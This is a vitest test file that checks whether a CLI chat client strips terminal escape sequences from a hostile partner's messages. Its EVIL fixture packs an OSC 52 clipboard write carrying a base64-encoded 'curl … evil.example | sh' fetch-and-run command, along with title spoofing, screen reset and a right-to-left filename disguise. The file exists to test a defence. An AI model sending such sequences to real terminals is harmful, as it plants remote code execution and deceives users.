// Item 15 of the security issue, end to end: a real werift partner sends chat carrying terminal
// control sequences to a real `chatzyo connect` process. At a TTY (a real pseudo-terminal from
// util-linux `script`) the ink screen shows the words and none of the sequences; with --json the
// line parses to the partner's exact text, yet holds no raw byte a terminal acts on.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { SignalServer } from '../../src/signal/server.js';
import { withTimeout } from '../helpers/deadline.js';
import { startServer } from '../helpers/server.js';
import { Sessions } from '../peer/helpers.js';
import { CliProcess, PtyCli } from './cli-process.js';

const ESC = '\u001b';
/** Clipboard write (OSC 52), window title (OSC 0), clear screen and home (CSI), full reset, 8-bit CSI, right-to-left override. */
const EVIL = `HOSTILE-A${ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u0007B${ESC}]0;pwned title\u0007C${ESC}[2J${ESC}[HD${ESC}cE\u009b2JF\u202egnp.exe`;

let server: SignalServer;
const sessions = new Sessions();
const ptys: PtyCli[] = [];
const clis: CliProcess[] = [];

beforeAll(async () => {
  server = await startServer({ rematchCooldownMs: 0 });
});
afterEach(async () => {
  await sessions.closeAll();
  await Promise.all(clis.splice(0).map((c) => c.kill()));
  for (const p of ptys.splice(0)) p.kill();
});
afterAll(async () => {
  await server?.close();
});

/** A werift partner in `hub` that sends EVIL as soon as the chat opens. */
async function hostilePartner(hub: string): Promise<void> {
  const [peer, rec] = sessions.create({ server: server.url, video: null, audio: null, target: { kind: 'hub', hub } }, 'stranger');
  peer.on('chat-open', () => { peer.sendChat(EVIL); });
  await withTimeout(peer.start(), 15_000, 'partner start');
  await rec.next('chat-open', 30_000);
}

describe('hostile chat reaching chatzyo connect', () => {
  it('the ink screen at a real TTY shows the words, with no OSC 52, OSC 0, clear screen, reset or bidi override', async () => {
    const pty = new PtyCli(['connect', '--server', server.url, '--room', 'uk', '--no-video', '--no-audio']);
    ptys.push(pty);
    await pty.shows('waiting', 20_000, "connect's screen says it is waiting");
    await hostilePartner('uk');
    // The screen is UTF-8; read it as bytes (latin1) so an 8-bit C1 byte could not hide in a decoded character.
    await pty.shows('gnp.exe', 15_000, 'the chat line is shown');

    const text = pty.text;
    expect(text).toContain('HOSTILE-ABCDEFgnp.exe');
    expect(text).not.toContain(`${ESC}]`); // no OSC at all: not 52 (clipboard), not 0 (title)
    expect(text).not.toContain('Y3VybCBodHRw');
    expect(text).not.toContain('pwned title');
    expect(text).not.toContain(`${ESC}[2J`);
    expect(text).not.toContain(`${ESC}c`);
    expect(text).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(text).not.toContain('\u0007');

    pty.write('q');
    expect(await withTimeout(pty.exited, 15_000, 'connect exits after q')).toBe(0);
  });

  it('--json keeps the exact text as a JSON value, with no raw control or bidi character on the line', async () => {
    const cli = new CliProcess('connect --json', ['connect', '--json', '--server', server.url, '--room', 'hindi', '--no-video', '--no-audio']);
    clis.push(cli);
    await cli.next('queued', 20_000);
    await hostilePartner('hindi');
    const chat = await cli.next('chat', 20_000);
    expect(chat.text).toBe(EVIL);
    const line = cli.stdout.split('\n').find((l) => l.includes('"event":"chat"'))!;
    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(line).toContain('\\u001b]52;c;');
    expect(line).toContain('\\u202e');
  });
});
